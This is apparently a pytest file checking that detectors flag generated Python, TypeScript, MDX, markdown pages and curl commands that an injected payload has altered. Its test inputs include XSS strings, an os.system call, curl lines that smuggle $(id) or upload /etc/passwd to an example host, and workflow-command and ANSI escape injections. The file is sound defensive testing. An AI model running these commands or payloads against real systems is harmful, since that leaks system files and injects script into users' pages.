"""The oracles notice what they are there for: each is given an output that a payload broke out of."""

import pytest

from tests.hostile.markdown_oracle import Ask, page_faults, rendered
from tests.hostile.python_oracle import facts_of, python_faults
from tests.hostile.test_printed import hold_curl, hold_lines
from tests.hostile.tree_oracle import Trees, Vocabulary

PLAIN = "class Pet:\n    name: str\n"
PAGE = "# Pet\n\nWords.\n\n## Fields\n\n| a | b |\n| --- | --- |\n| c | d |\n"


@pytest.mark.parametrize(
    "source",
    [
        PLAIN + "__import__('os').system('x')\n",
        PLAIN + "import os\n",
        "class Pet:\n    name: str = eval('1')\n",
        "class Pet:\n    name: str\n    os.x\n",
        "class Pet:\n    '''x\n",
    ],
)
def test_python_that_a_payload_wrote_is_noticed(source: str) -> None:
    facts = facts_of(PLAIN)
    assert list(python_faults({"a.py": PLAIN}, facts, facts)) == []
    assert list(python_faults({"a.py": source}, facts, facts)) != []


@pytest.mark.parametrize(
    "words",
    ["<script>alert(1)</script>", "<!-- all", "```\nopen", "<div>", "[x](javascript:y)", "<i onclick=x>a</i>", "a\rb"],
)
def test_a_page_that_a_payload_broke_is_noticed(words: str, inspector: Ask) -> None:
    assert list(page_faults(PAGE, "github", [PAGE], inspector)) == []
    assert list(page_faults(PAGE.replace("Words.", words), "github", [PAGE], inspector)) != []


def test_attributes_in_braces_are_noticed() -> None:
    assert rendered(PAGE.replace("Words.", "Words.\n{: onclick=x }"), "mkdocs").faults == ["attribute onclick of <p>"]


@pytest.mark.parametrize("words", ["{1 + 1}", "import x from 'y'", "<Tabs/>", "{", "<x"])
def test_code_of_mdx_is_noticed(words: str, inspector: Ask) -> None:
    page = f'---\ntitle: "a"\n---\n\n{PAGE}'
    assert list(page_faults(page, "mintlify", [page], inspector)) == []
    assert list(page_faults(page.replace("Words.", words), "mintlify", [page], inspector)) != []


@pytest.mark.parametrize(
    "code", ["export const a: string = process.exit(1);", "export class A {}", 'export type A = "a', "// @ts-ignore\n"]
)
def test_typescript_that_a_payload_wrote_is_noticed(code: str, inspector: Ask) -> None:
    usual = {"a.ts": 'export const a: string = "b";\n'}
    known = Vocabulary()
    known.learn(usual, inspector)
    assert list(Trees(usual, [usual], "github").faults(known, inspector)) == []
    assert list(Trees({"a.ts": f"{usual['a.ts']}{code}\nlet b = 1;"}, [usual], "github").faults(known, inspector)) != []


@pytest.mark.parametrize(
    "command",
    [
        'curl --request GET "https://a.example/$(id)"',
        "curl --request GET -o/tmp/x://y",
        "curl --request GET https://a.example --form 'a=@/etc/passwd'",
        "curl --request GET https://a.example --header '@/etc/passwd'",
    ],
)
def test_a_command_that_does_more_is_noticed(command: str) -> None:
    hold_curl("curl --request GET https://a.example --header 'A: b'")
    with pytest.raises(AssertionError):
        hold_curl(command)


@pytest.mark.parametrize("text", ["a\n::error::b", "a\x1b[31mb"])
def test_a_line_that_directs_is_noticed(text: str) -> None:
    with pytest.raises(AssertionError):
        hold_lines(text)
